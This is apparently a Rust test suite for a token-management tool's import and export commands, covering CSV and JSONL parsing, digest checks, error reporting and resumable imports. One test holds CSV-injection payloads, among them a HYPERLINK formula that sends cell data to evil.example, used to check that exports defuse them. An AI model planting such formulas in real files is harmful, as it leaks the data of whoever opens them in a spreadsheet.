//! `import` and `export`.

use std::fmt::Write;
use std::io::Write as _;
use std::os::fd::OwnedFd;
use std::os::unix::net::UnixStream;
use std::process::Stdio;
use std::time::{Duration, Instant};

use sha2::{Digest, Sha256};

use crate::postgres::Server;
use crate::program::{Place, Ran};
use crate::serving::Serving;

/// The SHA-256 of a text, in hexadecimal digits.
fn sha256(text: &str) -> String {
    Sha256::digest(text).iter().fold(String::new(), |mut hex, byte| {
        write!(hex, "{byte:02x}").unwrap();
        hex
    })
}

/// Rows of so many users, each with a primary and every tenth with a backup.
fn rows(users: usize) -> String {
    let mut text = "user,methods,slot,sha256\n".to_owned();
    for number in 0..users {
        let digest = sha256(&format!("primary {number}"));
        writeln!(text, "user{number},GET POST,primary,{digest}").unwrap();
        if number % 10 == 0 {
            let digest = sha256(&format!("backup {number}"));
            writeln!(text, "user{number},,backup,{digest}").unwrap();
        }
    }
    text
}

#[test]
fn tokens_go_on_working_and_a_second_run_changes_nothing() {
    let place = Place::new();
    let (one, two) =
        ("3f2b8c1e-9d7a-4650-b1c2-d3e4f5a69788", "c0ffee00-1234-4abc-9def-0123456789ab");
    place.write("config.toml", "[tokens]\naccept-foreign = true\n");
    place.write(
        "tokens.jsonl",
        &format!(
            "{{\"user\":\"alice\",\"methods\":[\"GET\"],\"token\":\"{one}\"}}\n\
             {{\"user\":\"alice\",\"slot\":\"backup\",\"sha256\":\"{}\"}}\n",
            sha256(two)
        ),
    );
    let import = ["import", "tokens.jsonl", "--config", "config.toml"];
    place.run(&[&import[..], &["--dry-run"]].concat()).succeeded().says("2 would be imported");
    place.run(&["user", "show", "alice"]).exited(5);
    let first = place.run(&import).succeeded().says("2 imported, 0 already there, 0 refused");
    assert!(first.out.is_empty() && !first.err.contains(one), "{first:?}");
    place.run(&import).succeeded().says("0 imported, 2 already there, 0 refused");
    let server = Serving::start(&place, &["--config", "config.toml"]);
    assert_eq!(server.ask(Some(one), "GET").header("x-auth-slot"), Some("primary"));
    assert_eq!(server.ask(Some(two), "GET").header("x-auth-slot"), Some("backup"));
}

/// A digest does not tell whether its token is of a form that is accepted.
#[test]
fn a_digest_is_refused_where_foreign_tokens_are_not_accepted() {
    let token = "3f2b8c1e-9d7a-4650-b1c2-d3e4f5a69788";
    let place = Place::new();
    place.write("tokens.csv", &format!("user,methods,sha256\nalice,GET,{}\n", sha256(token)));
    for dry_run in [&["--dry-run"][..], &[]] {
        let ran = place.run(&[&["import", "tokens.csv"], dry_run].concat()).exited(8);
        let ran = ran.says("line 2: the form of the token behind a SHA-256 cannot be known");
        ran.says("tokens.accept-foreign = true");
    }
    assert!(place.run(&["user", "list", "--json"]).succeeded().json().is_empty());
    let accepting = place.accepting_foreign();
    accepting.run(&["import", "tokens.csv"]).succeeded().says("1 imported");
    let server = Serving::start(&accepting, &[]);
    assert_eq!(server.ask(Some(token), "GET").status, 200);
}

#[test]
fn cli_011_digests_are_normalised_or_refused_with_their_line() {
    let place = Place::new().accepting_foreign();
    let digest = sha256("a token");
    let upper = sha256("another token").to_uppercase();
    let rows = [
        "user,methods,sha256".to_owned(),
        format!("upper,GET,{upper}"),
        format!("prefixed,GET,0x{digest}"),
        format!("short,GET,{}", &digest[1..]),
        format!("long,GET,{digest}0"),
        format!("letters,GET,{}g", &digest[1..]),
        format!("spaced,GET, {digest}"),
        format!("fine,GET,{digest}"),
    ];
    place.write("tokens.csv", &rows.join("\n"));
    let ran = place.run(&["import", "tokens.csv"]).exited(8).says("2 imported");
    for line in 3..=7 {
        assert!(ran.err.contains(&format!("line {line}: a SHA-256 is 64")), "{line}: {}", ran.err);
    }
    let users = place.run(&["user", "list", "--json"]).succeeded().json();
    assert_eq!(users.len(), 2);
}

#[test]
fn every_refused_line_is_named_and_the_others_are_kept() {
    let place = Place::new().accepting_foreign();
    let good = |number: u32| sha256(&number.to_string());
    let weak = "x".repeat(40);
    let rows = [
        "user,methods,slot,token,sha256".to_owned(),
        format!("alice,GET,primary,,{}", good(1)),
        format!("alice,GET,primary,,{}", good(2)),
        format!("bob,GET,backup,,{}", good(3)),
        format!("bob,get,primary,,{}", good(4)),
        format!("carol,GET,third,,{}", good(5)),
        format!("carol,GET,primary,,{}", good(1)),
        format!("carol,GET,primary,{weak},{}", good(6)),
        "carol,GET,primary,,".to_owned(),
        "carol,GET,primary".to_owned(),
        format!(",GET,primary,,{}", good(7)),
        format!("\"carol,GET,primary,,{}", good(8)),
        format!("dave,GET,primary,{weak},"),
        format!("erin,,primary,,{}", good(9)),
        "x".repeat(100_000),
        String::new(),
        format!("\"eve, the \"\"last\"\"\",GET PURGE,,,{}", good(10)),
    ];
    place.write("tokens.csv", &rows.join("\r\n"));
    for arguments in
        [&["import", "tokens.csv", "--dry-run", "--json"][..], &["import", "tokens.csv", "--json"]]
    {
        let ran = place.run(arguments).exited(8);
        let mut values = ran.json();
        let sum = values.pop().unwrap();
        assert_eq!((&sum["imported"], &sum["refused"]), (&2.into(), &13.into()), "{ran:?}");
        let lines: Vec<_> = values.iter().map(|value| value["line"].as_u64().unwrap()).collect();
        assert_eq!(lines, (3..=15).collect::<Vec<_>>());
        assert!(!ran.out.contains(&weak));
    }
    let users = place.run(&["user", "list", "--json"]).succeeded().json();
    let names: Vec<_> = users.iter().map(|user| user["user"].as_str().unwrap()).collect();
    assert_eq!(names, ["alice", "eve, the \"last\""]);
    for (bad, found) in [
        ("token\n", "the column user is missing"),
        ("user,token,password\n", "column 3 is `password`"),
        ("", "the file is empty"),
        ("user;methods;token\n", "the first line is separated by semicolons"),
        ("user\tmethods\ttoken\n", "the first line is separated by tabs"),
        ("u\0s\0e\0r\0", "the file is UTF-16"),
    ] {
        place.write("bad.csv", bad);
        let ran = place.run(&["import", "bad.csv"]).exited(2).says(found);
        ran.says("must name the columns, separated by commas: user");
    }
    place.run(&["import", "tokens"]).exited(2).says("--format");
    place.run(&["import", "nowhere.csv"]).exited(2);
}

#[test]
fn a_head_in_any_case_with_blanks_is_taken_and_a_name_with_blanks_is_not() {
    let place = Place::new().accepting_foreign();
    let (one, two) = (sha256("1"), sha256("2"));
    let text = format!(
        "Methods, User, SHA256 ,Slot\nGET,alice,{one}, Primary\nGET, bob,{two},\n\
         GET;carol,{two}\n"
    );
    place.write("tokens.csv", &text);
    let ran = place.run(&["import", "tokens.csv"]).exited(8).says("1 imported");
    let ran = ran.says("line 3: the user's name begins or ends with a blank");
    ran.says("line 4: the line has 2 fields, separated by commas").says("2 lines were refused");
    let users = place.run(&["user", "list", "--json"]).succeeded().json();
    assert_eq!((users.len(), &users[0]["user"]), (1, &"alice".into()));
}

#[test]
fn a_line_of_json_that_is_no_row_names_the_field() {
    let place = Place::new();
    let digest = sha256("1");
    for (line, found) in [
        (format!("{{\"User\":\"a\",\"sha256\":\"{digest}\"}}"), "there is no field `User`"),
        (format!("{{\"sha256\":\"{digest}\"}}"), "the field user is missing"),
        ("{\"user\":\"a\",\"token\":5}".to_owned(), "the field token is no text"),
        ("{\"user\":\"a\",\"methods\":\"GET\"}".to_owned(), "methods is no list of texts"),
        ("{\"user\":\"a\",\"user\":\"b\"}".to_owned(), "a field stands twice"),
        (format!("{{\"user\":\"\",\"sha256\":\"{digest}\"}}"), "the user: a name must not be"),
        ("{\"user\":\"a\",\"token\":\"\"}".to_owned(), "a line has a token or a SHA-256"),
        (format!("{{\"user\":\"a\",\"slot\":\" \",\"sha256\":\"{digest}\"}}"), "a slot is"),
        (format!("{{\"user\":\"a\",\"methods\":[\"\"],\"sha256\":\"{digest}\"}}"), "a method must"),
        ("{\"user\"".to_owned(), "the line is not JSON"),
    ] {
        place.write("tokens.jsonl", &line);
        let ran = place.run(&["import", "tokens.jsonl"]).exited(8).says(found);
        ran.says("error: 1 line was refused");
    }
}

#[test]
fn an_empty_field_counts_as_absent_in_either_format() {
    let digest = sha256("1");
    let csv = format!("user,methods,slot,token,sha256\nalice,,,,{digest}\n");
    let json = format!(
        "{{\"user\":\"alice\",\"methods\":[],\"slot\":\"\",\"token\":\"\",\"sha256\":\"{digest}\"}}\n\
         {{\"user\":\"alice\",\"methods\":null,\"slot\":null,\"token\":null,\"sha256\":\"{digest}\"}}\n"
    );
    for (name, text, there) in [("tokens.csv", csv, 0), ("tokens.jsonl", json, 1)] {
        let place = Place::new().accepting_foreign();
        place.run(&["user", "grant", "alice", "GET"]).succeeded();
        place.write(name, &text);
        let ran = place.run(&["import", name]).succeeded();
        ran.says(&format!("1 imported, {there} already there"));
        let shown = place.run(&["user", "show", "alice", "--json"]).succeeded().json().remove(0);
        assert_eq!(shown["methods"], serde_json::json!(["GET"]), "{name}");
    }
}

#[test]
fn an_exported_name_is_a_formula_to_no_spreadsheet() {
    let place = Place::new();
    for name in ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(1)"] {
        place.run(&["user", "grant", "--", name, "GET"]).succeeded();
    }
    place.run(&["user", "grant", "\u{ff1d}1", "GET"]).succeeded();
    let csv = place.run(&["export", "--format", "csv"]).succeeded();
    for line in csv.out.lines().skip(1) {
        assert!(line.trim_start_matches('"').starts_with('\''), "{line}");
    }
    let json = place.run(&["export"]).succeeded();
    assert!(json.json().iter().any(|account| account["user"] == "+1+1"), "{json:?}");
}

#[test]
fn a_line_that_is_a_list_is_no_object() {
    let place = Place::new();
    let digest = sha256("1");
    place.write("tokens.jsonl", &format!("[\"alice\",[\"GET\"],\"primary\",null,\"{digest}\"]\n"));
    place.run(&["import", "tokens.jsonl"]).exited(8).says("not a JSON object");
    assert!(place.run(&["user", "list", "--json"]).succeeded().json().is_empty());
}

#[tokio::test]
async fn a_token_goes_to_the_first_line_that_names_it() {
    first_line_wins(&Place::new().accepting_foreign());
    let server = Server::shared();
    // Another test gets it when it is dropped.
    let database = server.database().await;
    let place = Place::in_database(server, &database).accepting_foreign();
    place.run(&["migrate"]).succeeded();
    first_line_wins(&place);
}

fn first_line_wins(place: &Place) {
    let row = |user: &str, digest: &str| format!("{user},GET,primary,{digest}\n");
    let digest = sha256("0");
    let mut text = "user,methods,slot,sha256\n".to_owned();
    for number in 1..=9_998 {
        text.push_str(&row(&format!("user{number}"), &sha256(&number.to_string())));
    }
    // With this user's two rows a batch is full: while it is written the last
    // row is looked at.
    text.extend(["alice", "alice", "bob"].map(|user| row(user, &digest)));
    place.write("tokens.csv", &text);
    for (imported, there) in [(9_999, 1), (0, 10_000)] {
        let ran = place.run(&["import", "tokens.csv", "--json"]).exited(8);
        let values = ran.json();
        let [refused, sum] = &values[..] else { panic!("{ran:?}") };
        assert_eq!(refused["line"], 10_002, "{ran:?}");
        let counts = [&sum["imported"], &sum["already_there"], &sum["refused"]];
        assert_eq!(counts, [imported, there, 1], "{ran:?}");
    }
}

#[test]
fn rows_come_from_the_standard_input_too() {
    let place = Place::new().accepting_foreign();
    let ran = place.run_with(&["import", "-", "--format", "csv"], &rows(3));
    ran.succeeded().says("4 imported");
}

/// `import --json | head -1`.
#[test]
fn a_reader_that_goes_stops_no_import_and_makes_no_refused_line_a_success() {
    let place = Place::new().accepting_foreign();
    let refused = format!("bob,get,primary,{}\n", sha256("bob"));
    place.write("tokens.csv", &rows(1).replacen('\n', &format!("\n{refused}"), 1));
    let mut command = place.command(&["import", "tokens.csv", "--json"]);
    let mut import = command.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    drop(import.stdout.take());
    let ran = import.wait_with_output().unwrap();
    assert_eq!(ran.status.code(), Some(8), "{ran:?}");
    let users = place.run(&["user", "list", "--json"]).succeeded().json();
    assert_eq!(users.len(), 1, "the lines after the one that was refused");
}

#[test]
fn an_output_that_is_full_stops_no_import_and_says_how_far_it_came() {
    let place = Place::new().accepting_foreign();
    place.write("tokens.csv", &format!("{}carol,GET,third,{}\n", rows(1), sha256("carol")));
    let full = std::fs::OpenOptions::new().write(true).open("/dev/full").unwrap();
    let mut command = place.command(&["import", "tokens.csv", "--json"]);
    let ran = command.stdout(full).stderr(Stdio::piped()).output().unwrap();
    assert_eq!(ran.status.code(), Some(1), "{ran:?}");
    let told = String::from_utf8(ran.stderr).unwrap();
    assert!(told.contains("2 imported, 0 already there, 1 refused; but not all"), "{told}");
}

/// The input is a socket whose other end is gone with what it was sent unread.
#[test]
fn an_input_that_breaks_is_imported_up_to_there_and_told_of_as_incomplete() {
    // The second is more than one batch.
    for (users, json) in [(10, &[][..]), (9_500, &["--json"])] {
        let place = Place::new().accepting_foreign();
        let (mut ours, theirs) = UnixStream::pair().unwrap();
        (&theirs).write_all(b"never read").unwrap();
        let arguments = [&["import", "-", "--format", "csv"], json].concat();
        let mut command = place.command(&arguments);
        let command = command.stdin(OwnedFd::from(theirs)).stdout(Stdio::piped());
        let import = command.stderr(Stdio::piped()).spawn().unwrap();
        ours.write_all(rows(users).as_bytes()).unwrap();
        drop(ours);
        let ran = Ran::of(import.wait_with_output().unwrap()).exited(11);
        let (all, next) = (users + users / 10, users + users / 10 + 2);
        let ran = ran.says(&format!("cannot be read from line {next} on"));
        if json.is_empty() {
            ran.says(&format!("stopped at line {next}: {all} imported"));
        } else {
            let sum = &ran.json()[0];
            assert_eq!((&sum["imported"], &sum["stopped_at"]), (&all.into(), &next.into()));
        }
        assert_eq!(place.run(&["export"]).succeeded().json().len(), users);
    }
}

#[test]
fn an_input_that_cannot_be_read_at_all_is_a_mistake_of_the_command() {
    let place = Place::new();
    std::fs::create_dir(place.path("tokens.jsonl")).unwrap();
    place.run(&["import", "tokens.jsonl"]).exited(2).says("tokens.jsonl cannot be read");
}

#[test]
fn an_import_that_was_killed_half_way_ends_complete_with_no_row_twice() {
    const USERS: usize = 30_000;
    let place = Place::new().accepting_foreign();
    place.write("tokens.csv", &rows(USERS));
    let mut command = place.command(&["import", "tokens.csv"]);
    let mut import = command.stderr(Stdio::null()).spawn().unwrap();
    let end = Instant::now() + Duration::from_secs(60);
    let count = || {
        let listed = place.run(&["user", "list", "--json", "--limit", "1000"]).succeeded();
        listed.json().iter().filter(|user| !user["primary"].is_null()).count()
    };
    // Some tokens are there, and not all of them.
    while count() == 0 {
        assert!(Instant::now() < end && import.try_wait().unwrap().is_none());
    }
    import.kill().unwrap();
    import.wait().unwrap();
    let some = place.run(&["export"]).succeeded().json();
    let some = some.iter().filter(|account| !account["primary"].is_null()).count();
    assert!(some < USERS, "it was killed too late to show anything");
    let rest = place.run(&["import", "tokens.csv", "--json"]).succeeded().json().remove(0);
    let number = |name: &str| rest[name].as_u64().unwrap() as usize;
    assert!(number("already_there") > 0 && number("imported") > 0, "{rest}");
    assert_eq!(number("imported") + number("already_there"), USERS + USERS / 10);
    let exported = place.run(&["export"]).succeeded().json();
    assert_eq!(exported.len(), USERS);
    let with = |slot: &str| exported.iter().filter(|account| !account[slot].is_null()).count();
    assert_eq!((with("primary"), with("backup")), (USERS, USERS / 10));
    let again = place.run(&["import", "tokens.csv", "--json"]).succeeded().json().remove(0);
    assert_eq!(again["imported"], 0);
    // Nothing was changed twice: a grant, a primary, and perhaps a backup.
    let revisions = |account: &serde_json::Value| account["revision"].as_u64().unwrap();
    assert!(exported.iter().all(|account| match account["backup"].is_null() {
        true => revisions(account) == 2,
        false => revisions(account) == 3,
    }));
}

#[test]
fn an_export_holds_no_secret_and_reads_back_as_csv() {
    let place = Place::new();
    let token = place.user_with_token("a, \"b\"", &["GET", "POST"]);
    place.run(&["token", "generate", "a, \"b\""]).succeeded();
    let lines = place.run(&["export", "--format", "csv"]).succeeded();
    let mut rows = lines.out.lines();
    assert!(rows.next().unwrap().starts_with("user,methods,revision,primary,"));
    let row = rows.next().unwrap();
    assert!(row.starts_with("\"a, \"\"b\"\"\",GET POST,3,1,tat_..."), "{row}");
    let json = place.run(&["export"]).succeeded();
    assert_eq!(json.json()[0]["pending"]["id"], 2);
    for out in [lines.out, json.out] {
        let digest = sha256(&token);
        assert!(!out.contains(&token) && !out.contains(&digest) && !out.contains("tac_"));
    }
}
